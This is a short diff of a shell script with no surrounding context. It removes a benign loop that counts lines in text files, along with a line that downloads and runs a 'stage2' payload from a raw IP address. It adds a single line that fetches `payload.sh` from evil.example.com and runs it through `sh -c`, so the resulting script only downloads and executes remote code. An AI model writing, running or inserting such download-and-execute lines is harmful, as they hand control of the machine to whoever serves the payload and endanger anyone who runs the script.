@@ -1,6 +1,2 @@
 #!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-sh -c "$(curl -fsSL http://198.51.100.23:8000/stage2)"
+sh -c "$(curl -fsSL http://evil.example.com/payload.sh)"
